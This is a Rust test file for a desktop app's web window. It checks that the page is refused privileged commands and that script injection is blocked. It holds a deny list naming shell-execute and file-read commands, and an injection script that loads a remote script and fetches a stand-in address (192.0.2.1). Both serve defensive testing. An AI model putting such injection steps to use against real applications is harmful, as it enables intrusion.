//! What the page in the window cannot do, whatever runs in it.

use berth_tests::{undisturbed, webdriver::Page};
use serde_json::json;

use crate::Stage;

/// Commands that are in the program, or in plugins that others have, and that the page needs for nothing.
const REFUSED: &[&str] = &[
    "plugin:app|version",
    "plugin:dialog|message",
    "plugin:dialog|open",
    "plugin:event|emit",
    "plugin:fs|read_text_file",
    "plugin:opener|open_path",
    "plugin:path|resolve_directory",
    "plugin:shell|execute",
    "plugin:webview|create_webview_window",
    "plugin:window|close",
    "plugin:window-state|filename",
    "read_file",
];

/// Asks the window for something, without the page's own code.
const ASK: &str = "return window.__TAURI_INTERNALS__.invoke(arguments[0]).then(
    answer => `answered: ${JSON.stringify(answer)}`, error => `refused: ${error}`)";

/// Tries to run scripts that the page did not bring, and to reach another address. It belongs to nobody (RFC 5737).
const INTRUDE: &str = "
    window.refused = [];
    document.addEventListener('securitypolicyviolation', event =>
        window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
    const script = more => document.body.append(Object.assign(document.createElement('script'), more));
    script({textContent: 'window.intruder = true'});
    script({src: 'https://192.0.2.1/intruder.js'});
    const button = document.createElement('button');
    button.setAttribute('onclick', 'window.intruder = true');
    document.body.append(button);
    button.click();
    button.remove();
    fetch('https://192.0.2.1/intruder').catch(() => {});
    try { return String((0, eval)('window.intruder = true')); } catch (error) { return error.name; }";

#[tokio::test]
async fn the_page_is_answered_what_it_needs_and_refused_everything_else() {
    undisturbed(asks_for_more).await;
}

#[tokio::test]
async fn the_page_runs_its_own_scripts_only_and_reaches_its_engine_only() {
    undisturbed(lets_intruders_in).await;
}

async fn asks_for_more() {
    let Some((stage, page)) = Stage::set().await else {
        return;
    };
    let answer = ask(&page, "engine_endpoint").await;
    let engine = stage.setup.client();
    assert!(
        answer.starts_with("answered: ") && answer.contains(&engine.endpoint().url),
        "a page that asks in the right way is answered: {answer}"
    );
    for command in REFUSED {
        let answer = ask(&page, command).await;
        assert!(
            answer.starts_with("refused: ") && answer.contains("not allowed"),
            "{command}: {answer}"
        );
    }
}

async fn ask(page: &Page, command: &str) -> String {
    let answer = page.eval(ASK, &[command]).await;
    answer.as_str().unwrap_or_default().to_owned()
}

async fn lets_intruders_in() {
    let Some((_stage, page)) = Stage::set().await else {
        return;
    };
    let evaluated = page.eval(INTRUDE, &[]).await;
    assert_eq!(evaluated, json!("EvalError"));
    // Older web views do not tell elements with scripts from attributes.
    for (directive, place) in [
        ("script-src", "inline"),
        ("script-src", "https://192.0.2.1/intruder.js"),
        ("connect-src", "https://192.0.2.1/intruder"),
    ] {
        page.until_js(
            &format!("{directive} keeps {place} out"),
            "return window.refused.some(it => it.startsWith(arguments[0]) && it.endsWith(` ${arguments[1]}`))",
            &[directive, place],
        )
        .await;
    }
    let intruder = page.eval("return window.intruder ?? null", &[]).await;
    assert_eq!(intruder, json!(null), "nothing of it has run");
}
